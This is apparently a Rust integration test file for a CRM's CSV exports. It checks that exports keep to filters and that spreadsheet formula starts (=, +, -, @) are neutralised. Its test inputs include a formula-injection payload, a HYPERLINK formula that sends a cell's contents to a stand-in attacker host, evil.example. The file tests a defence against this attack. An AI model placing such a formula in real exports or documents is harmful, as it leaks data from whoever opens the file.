//! CSV exports (issue 17): the opportunity list's export holds what its filters show, and no
//! export hands a spreadsheet a formula — a title or a close reason starting with `=`, `+`, `-`
//! or `@` arrives neutralised, in the list's export and the analytics'. (Typed text is trimmed,
//! so a leading tab or carriage return never gets this far; `pages::csv`'s own tests cover them.)

use dealflow_core::definition::ActivityType;
use dealflow_server::services::{AccountFields, CloseInput, ContactFields, NewActivity, NewLead, NewOpportunity};
use reqwest::StatusCode;

use crate::client::Api;
use crate::on_both_backends;
use crate::support::TestApp;
use crate::web::{Browser, session_for};

/// The starts a spreadsheet takes for a formula, each with what a person might have typed.
const FORMULAS: [&str; 4] = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+79161234567", "-2+3", "@SUM(A1:A9)"];

async fn exports_neutralise_every_formula_start_and_keep_to_the_filters(app: TestApp) {
    let api = Api::start(app).await;
    let app = &api.app;
    let by = app.actor_of(&app.manager);
    for formula in FORMULAS {
        let title = formula.to_owned();
        let id = app.services.create_opportunity(by, NewOpportunity { title, ..NewOpportunity::default() }).await.unwrap().id;
        let lost = CloseInput { stage: "closed_lost".into(), close_reason: Some(formula.to_owned()), ..CloseInput::default() };
        app.services.close(by, &id, &lost).await.unwrap();
    }
    app.services.create_opportunity(by, NewOpportunity { title: "Открытая, сумма −".into(), ..NewOpportunity::default() }).await.unwrap();
    let browser = Browser::of(&api);
    let supervisor = session_for(&api, &app.supervisor).await;

    let listed = browser.get("/opportunities.csv?status=closed", &supervisor).await;
    assert_eq!(listed.status, StatusCode::OK);
    assert_eq!(listed.headers["content-type"], "text/csv; charset=utf-8");
    assert!(listed.headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    let body = listed.body.strip_prefix('\u{feff}').expect("a byte-order mark first");
    let lines: Vec<&str> = body.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 1 + FORMULAS.len(), "the header and the closed deals only: {lines:?}");
    assert!(lines[0].starts_with("Title,Account,Stage"), "the supervisor reads English: {}", lines[0]);
    for formula in FORMULAS {
        let quoted = format!("'{formula}");
        let cell = if formula.contains(['"', ',']) { format!("\"{}\"", quoted.replace('"', "\"\"")) } else { quoted };
        assert_eq!(lines.iter().filter(|l| l.starts_with(&format!("{cell},"))).count(), 1, "{formula:?} in {lines:?}");
    }

    let analytics = browser.get("/analytics.csv", &supervisor).await;
    assert_eq!(analytics.status, StatusCode::OK);
    let body = analytics.body.strip_prefix('\u{feff}').expect("a byte-order mark first");
    for formula in FORMULAS {
        let neutral = format!("'{formula}");
        assert!(body.contains(&neutral.replace('"', "\"\"")), "{formula:?} is not neutralised in {body}");
    }
    for line in body.split("\r\n") {
        // No cell of any line starts a formula: each cell after a separator or at the start.
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "a live formula in {line:?}");
        }
    }
}

async fn account_and_contact_exports_hold_what_the_search_finds_neutralised(app: TestApp) {
    let api = Api::start(app).await;
    let app = &api.app;
    let by = app.actor_of(&app.manager);
    let account = AccountFields { name: "=Волга Фарм".into(), phone: Some("+7 495 123-45-67".into()), ..AccountFields::default() };
    let account = app.services.create_account(by, account).await.unwrap().id;
    app.services.create_account(by, AccountFields { name: "Уралсталь".into(), ..AccountFields::default() }).await.unwrap();
    let contact = ContactFields { name: "@Ирина Соколова".into(), account_id: Some(account), ..ContactFields::default() };
    app.services.create_contact(by, contact).await.unwrap();
    let browser = Browser::of(&api);
    let manager = session_for(&api, &app.manager).await;

    let accounts = browser.get("/accounts.csv?q=волга", &manager).await;
    assert_eq!(accounts.status, StatusCode::OK);
    let lines: Vec<&str> = accounts.body.trim_start_matches('\u{feff}').split_terminator("\r\n").collect();
    assert_eq!(lines, ["Название,Отрасль,Телефон,Сайт", "'=Волга Фарм,,'+7 495 123-45-67,"], "the manager reads Russian");
    let contacts = browser.get("/contacts.csv", &manager).await;
    let lines: Vec<&str> = contacts.body.trim_start_matches('\u{feff}').split_terminator("\r\n").collect();
    assert!(lines.contains(&"'@Ирина Соколова,,'=Волга Фарм,,"), "{lines:?}");
}

async fn lead_and_schedule_exports_hold_what_their_filters_show(app: TestApp) {
    let api = Api::start(app).await;
    let app = &api.app;
    let by = app.actor_of(&app.manager);
    let lead = |title: &str| NewLead { title: title.into(), budget: Some("250000".parse().unwrap()), ..NewLead::default() };
    let qualified = app.services.create_lead(by, lead("-2+3 склада")).await.unwrap();
    let distributed = app.services.create_lead(by, lead("Распределённый")).await.unwrap();
    app.services.change_lead_stage(by, &distributed.id, "distribution").await.unwrap();
    let browser = Browser::of(&api);
    let manager = session_for(&api, &app.manager).await;
    let leads = browser.get("/leads.csv?stage=qualification", &manager).await;
    assert_eq!(leads.status, StatusCode::OK);
    let lines: Vec<&str> = leads.body.trim_start_matches('\u{feff}').split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 2, "the header and the lead on the stage asked for: {lines:?}");
    assert!(lines[0].starts_with("Название,Стадия,Ответственный,Бюджет"), "{}", lines[0]);
    assert!(lines[1].starts_with(&format!("'{},", qualified.title)) && lines[1].contains(",250000.00,"), "{}", lines[1]);

    // The week of Saturday 28 November: more tasks than one page of reading, all due at one
    // moment, so that the pages' seams are crossed inside a run of equal times.
    let task = |title: String, owner: &str| NewActivity {
        kind: ActivityType::Task,
        title,
        owner_id: Some(owner.to_owned()),
        opportunity_id: None,
        account_id: None,
        contact_id: None,
        start_at: None,
        due_at: Some("2026-11-24T10:00:00Z".parse().unwrap()),
        duration_minutes: None,
    };
    let many = 503;
    for n in 0..many {
        app.services.create_activity(by, task(format!("Задача {n:03}"), &app.manager.id)).await.unwrap();
    }
    app.services.create_activity(by, task("=1+1".into(), &app.manager.id)).await.unwrap();
    let cancelled = app.services.create_activity(by, task("Отменённая".into(), &app.manager.id)).await.unwrap();
    app.services.cancel_activity(by, &cancelled.id).await.unwrap();
    let next_week = NewActivity { due_at: Some("2026-12-01T10:00:00Z".parse().unwrap()), ..task("Next week".into(), &app.manager.id) };
    app.services.create_activity(by, next_week).await.unwrap();
    let by_teammate = app.actor_of(&app.teammate);
    app.services.create_activity(by_teammate, task("Teammate's".into(), &app.teammate.id)).await.unwrap();

    let own = browser.get("/schedule.csv?view=week&date=2026-11-26", &manager).await;
    assert_eq!(own.status, StatusCode::OK);
    assert!(own.headers["content-disposition"].to_str().unwrap().contains("dealflow-schedule-2026-11-23.csv"));
    let lines: Vec<&str> = own.body.trim_start_matches('\u{feff}').split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 1 + many + 1, "every task of the week, once, and none cancelled or of another week");
    let mut titles: Vec<&str> = lines[1..].iter().map(|l| l.split(',').nth(2).unwrap()).collect();
    titles.sort_unstable();
    titles.dedup();
    assert_eq!(titles.len(), many + 1, "no task twice across the pages");
    assert!(lines.iter().any(|l| l.contains(",'=1+1,")), "the formula is neutralised");
    assert!(lines.iter().all(|l| !l.contains("Teammate")), "the manager's own schedule only");
    assert!(lines[1].starts_with("2026-11-24 13:00,Задача,"), "Moscow time, the manager's zone: {}", lines[1]);

    let supervisor = session_for(&api, &app.supervisor).await;
    let team = browser.get("/schedule.csv?view=week&date=2026-11-26&who=team", &supervisor).await;
    let body = team.body;
    assert!(body.contains(",Teammate's,") && body.contains(",Task,"), "the team's, in English: {}", &body[..200]);
}

on_both_backends!(
    lead_and_schedule_exports_hold_what_their_filters_show,
    exports_neutralise_every_formula_start_and_keep_to_the_filters,
    account_and_contact_exports_hold_what_the_search_finds_neutralised,
);
